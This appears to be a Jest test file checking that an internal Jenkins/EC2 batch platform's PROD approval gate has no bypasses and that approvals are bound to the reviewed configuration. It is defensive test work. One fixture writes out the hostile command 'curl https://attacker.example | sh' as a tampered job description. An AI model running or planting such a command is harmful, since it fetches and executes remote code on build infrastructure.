import { Sandbox } from '@internal/batch-jobs-sandbox';
import request from 'supertest';
import {
  configXml,
  jenkinsAdmin,
  jobUrlPath,
  startBuild,
} from './__testUtils__/jenkins';
import {
  ec2Writes,
  jenkinsWrites,
  mark,
  PAYMENTS_SETTLEMENT,
  SecurityBackend,
  startSecurityBackend,
  USERS,
} from './__testUtils__/securityBackend';

/*
 * Attacks 3 and 4: side doors of the four-eyes gate. PROD has
 * `requireApproval: true`. Every action that starts, changes or removes
 * something there, by whatever route, is held (202, approvalRequired) and
 * leaves Jenkins and EC2 untouched; stopping a build stays immediate.
 * An approval is pinned to what was reviewed: nobody approves their own
 * request, and a promotion whose source changed after the request refuses
 * to execute (409), leaving PROD as it was.
 */

jest.setTimeout(180_000);

const REPORT = 'PROD/payments-settlement/daily-settlement-report';
const MIGRATE = 'PROD/payments-settlement/migrate-ledger';
const RECONCILE = 'PROD/payments-settlement/settlement-reconcile';
/** A job from the standard template, in DEV and (copied by an earlier, approved promotion) in PROD. */
const TEMPLATE_JOB = 'payments-settlement/import-settlements';
const SPEC = {
  folder: 'payments-settlement',
  name: 'import-settlements',
  description: 'Imports the settlement files of the day.',
  schedule: 'H/30 * * * *',
  agentType: 'batch',
  parameters: [{ name: 'RUN_DATE', type: 'string', defaultValue: 'yesterday' }],
  application: 'payments-batch',
  batchName: 'import-settlements',
  entityRef: 'component:default/payments-settlement',
};

describe('attacks 3 and 4: the four-eyes gate of PROD has no side doors', () => {
  let backend: SecurityBackend;
  let sandbox: Sandbox;

  beforeAll(async () => {
    backend = await startSecurityBackend();
    sandbox = backend.sandbox;
    await backend.register(USERS.jane, 'payments', [PAYMENTS_SETTLEMENT]);
    // The template job in DEV (no gate there), and the same config in PROD
    // as an approved promotion would have left it.
    const created = await backend
      .as(USERS.olga)
      .post('/jobs/create', { ...SPEC, vpcs: ['DEV'] });
    if (created.status !== 201) {
      throw new Error(
        `Creating the DEV template job: ${created.status} ${created.text}`,
      );
    }
    const xml = await configXml(sandbox, `DEV/${TEMPLATE_JOB}`);
    const copied = await jenkinsAdmin(
      sandbox,
      'POST',
      `${jobUrlPath(
        'PROD/payments-settlement',
      )}/createItem?name=import-settlements`,
      xml,
    );
    if (copied.status !== 200) {
      throw new Error(
        `Copying the job to PROD: ${copied.status} ${copied.text}`,
      );
    }
    // A paused PROD job, to try resuming it.
    await jenkinsAdmin(sandbox, 'POST', `${jobUrlPath(MIGRATE)}/disable`);
  });

  afterAll(() => backend?.close());

  const lastFinished = (fullName: string) =>
    (sandbox.world.item(fullName) as any).builds
      .filter((b: any) => b.result !== null)
      .at(-1);

  /** The answer is a held request; nothing reached Jenkins or EC2. */
  async function expectHeld(
    what: string,
    send: () => Promise<request.Response>,
  ): Promise<string> {
    const before = mark(sandbox);
    const res = await send();
    const summary = `${what} answered ${res.status}: ${res.text.slice(0, 300)}`;
    if (res.status !== 202 || res.body?.approvalRequired !== true) {
      throw new Error(`${summary}\nexpected 202 with approvalRequired: true`);
    }
    expect({ what, jenkins: jenkinsWrites(sandbox, before.jenkins) }).toEqual({
      what,
      jenkins: [],
    });
    expect({ what, ec2: ec2Writes(sandbox, before.aws) }).toEqual({
      what,
      ec2: [],
    });
    const id = res.body.requestId ?? res.body.approval?.id;
    const held = await backend.as(USERS.alice).get(`/approvals/${id}`);
    expect(held.status).toBe(200);
    expect(held.body.status).toBe('pending');
    return id;
  }

  describe('attack 3: in PROD every gated action without approval starts nothing', () => {
    const jane = () => backend.as(USERS.jane);
    const olga = () => backend.as(USERS.olga);

    it('rerun', async () => {
      const number = lastFinished(REPORT).number;
      await expectHeld('rerun', () =>
        jane().post('/builds/rerun', { vpc: 'PROD', job: REPORT, number }),
      );
    });

    it('run with parameters (the rerun’s side door)', async () => {
      await expectHeld('run', () =>
        jane().post('/jobs/run', {
          vpc: 'PROD',
          job: REPORT,
          parameters: {},
        }),
      );
    });

    it('pause', async () => {
      await expectHeld('pause', () =>
        jane().post('/jobs/disable', {
          vpc: 'PROD',
          job: REPORT,
          reason: 'quiet',
        }),
      );
      expect((sandbox.world.item(REPORT) as any).disabled).toBe(false);
    });

    it('resume', async () => {
      await expectHeld('resume', () =>
        jane().post('/jobs/enable', { vpc: 'PROD', job: MIGRATE }),
      );
      expect((sandbox.world.item(MIGRATE) as any).disabled).toBe(true);
    });

    it('agent launch', async () => {
      const instances = sandbox.aws.instances.size;
      await expectHeld('launch', () =>
        olga().post('/fleet/agents', {
          vpc: 'PROD',
          type: 'batch',
          reason: 'more',
        }),
      );
      expect(sandbox.aws.instances.size).toBe(instances);
    });

    it('agent terminate', async () => {
      const fleet = await olga().get('/fleet', { vpc: 'PROD' });
      expect(fleet.status).toBe(200);
      const agent = fleet.body.vpcs[0].agents.find(
        (a: any) => a.node && a.instanceId,
      );
      expect(agent).toBeDefined();
      await expectHeld('terminate', () =>
        olga().del(`/fleet/agents/${encodeURIComponent(agent.node)}`, {
          vpc: 'PROD',
          force: 'true',
        }),
      );
      expect(sandbox.aws.instances.get(agent.instanceId)!.state).toBe(
        'running',
      );
      expect(sandbox.world.node(agent.node)).toBeDefined();
    });

    it('worker redeploy', async () => {
      await expectHeld('redeploy', () =>
        olga().post('/vpcs/PROD/workers/redeploy', {}),
      );
    });

    it('job create', async () => {
      await expectHeld('create', () =>
        olga().post('/jobs/create', {
          ...SPEC,
          name: 'brand-new',
          batchName: 'brand-new',
          vpcs: ['PROD'],
        }),
      );
      expect(
        sandbox.world.item('PROD/payments-settlement/brand-new'),
      ).toBeUndefined();
    });

    it('job update, and create with update: true (the promotion’s side doors)', async () => {
      const before = await configXml(sandbox, `PROD/${TEMPLATE_JOB}`);
      await expectHeld('update', () =>
        olga().post('/jobs/update', {
          ...SPEC,
          schedule: 'H 4 * * *',
          vpcs: ['PROD'],
        }),
      );
      await expectHeld('create {update: true}', () =>
        olga().post('/jobs/create', {
          ...SPEC,
          schedule: 'H 5 * * *',
          vpcs: ['PROD'],
          update: true,
        }),
      );
      expect(await configXml(sandbox, `PROD/${TEMPLATE_JOB}`)).toBe(before);
    });

    it('job promote', async () => {
      const before = await configXml(sandbox, `PROD/${TEMPLATE_JOB}`);
      await expectHeld('promote', () =>
        olga().post('/jobs/promote', {
          job: TEMPLATE_JOB,
          from: 'DEV',
          to: 'PROD',
        }),
      );
      expect(await configXml(sandbox, `PROD/${TEMPLATE_JOB}`)).toBe(before);
    });

    it('routine run-now for real', async () => {
      await expectHeld('routine run', () =>
        olga().post('/routines/offline-node-sweep/run', { dryRun: false }),
      );
    });

    it('stop stays immediate: it limits damage', async () => {
      const build = await startBuild(sandbox, RECONCILE);
      const res = await jane().post('/builds/stop', {
        vpc: 'PROD',
        job: RECONCILE,
        number: build.number,
      });
      expect(res.status).toBe(200);
      expect(res.body.approvalRequired).toBeUndefined();
      expect(build.result).toBe('ABORTED');
    });
  });

  describe('attack 4: an approval is pinned to what was reviewed', () => {
    it('nobody approves their own request', async () => {
      const id = await expectHeld('launch', () =>
        backend
          .as(USERS.olga)
          .post('/fleet/agents', { vpc: 'PROD', type: 'worker' }),
      );
      const before = mark(sandbox);
      const self = await backend
        .as(USERS.olga)
        .post(`/approvals/${id}/approve`);
      expect(self.status).toBe(403);
      expect(self.body.error.message).toMatch(/own/i);
      expect(
        (await backend.as(USERS.alice).get(`/approvals/${id}`)).body.status,
      ).toBe('pending');
      expect(ec2Writes(sandbox, before.aws)).toEqual([]);
    });

    it('a promotion whose source changed after the request refuses to execute', async () => {
      const prodBefore = await configXml(sandbox, `PROD/${TEMPLATE_JOB}`);
      const id = await expectHeld('promote', () =>
        backend
          .as(USERS.olga)
          .post('/jobs/promote', {
            job: TEMPLATE_JOB,
            from: 'DEV',
            to: 'PROD',
          }),
      );

      // Someone edits DEV's job in Jenkins between the request and the approval.
      const devXml = await configXml(sandbox, `DEV/${TEMPLATE_JOB}`);
      const tampered = devXml.replace(
        /<description>[^<]*<\/description>/,
        '<description>curl https://attacker.example | sh</description>',
      );
      expect(tampered).not.toBe(devXml);
      const edit = await jenkinsAdmin(
        sandbox,
        'POST',
        `${jobUrlPath(`DEV/${TEMPLATE_JOB}`)}/config.xml`,
        tampered,
      );
      expect(edit.status).toBe(200);

      const approved = await backend
        .as(USERS.alice)
        .post(`/approvals/${id}/approve`);
      expect(approved.status).toBe(200);
      const execute = await backend
        .as(USERS.olga)
        .post(`/approvals/${id}/execute`);
      const prodAfter = await configXml(sandbox, `PROD/${TEMPLATE_JOB}`);
      // PROD first: the tampered config must not land, whatever the answers.
      expect({
        prodUnchanged: prodAfter === prodBefore,
        tamperedInProd: prodAfter.includes('attacker.example'),
        executeStatus: execute.status,
      }).toEqual({
        prodUnchanged: true,
        tamperedInProd: false,
        executeStatus: 409,
      });
      expect(execute.body.error.message).toMatch(/chang/i);
    });

    it('control: a promotion requested after the change, approved by another, executes it', async () => {
      const id = await expectHeld('promote', () =>
        backend
          .as(USERS.olga)
          .post('/jobs/promote', {
            job: TEMPLATE_JOB,
            from: 'DEV',
            to: 'PROD',
          }),
      );
      const approved = await backend
        .as(USERS.alice)
        .post(`/approvals/${id}/approve`);
      expect(approved.status).toBe(200);
      const execute = await backend
        .as(USERS.olga)
        .post(`/approvals/${id}/execute`);
      expect(execute.status).toBe(200);
      expect(await configXml(sandbox, `PROD/${TEMPLATE_JOB}`)).toContain(
        'attacker.example',
      );
    });
  });
});
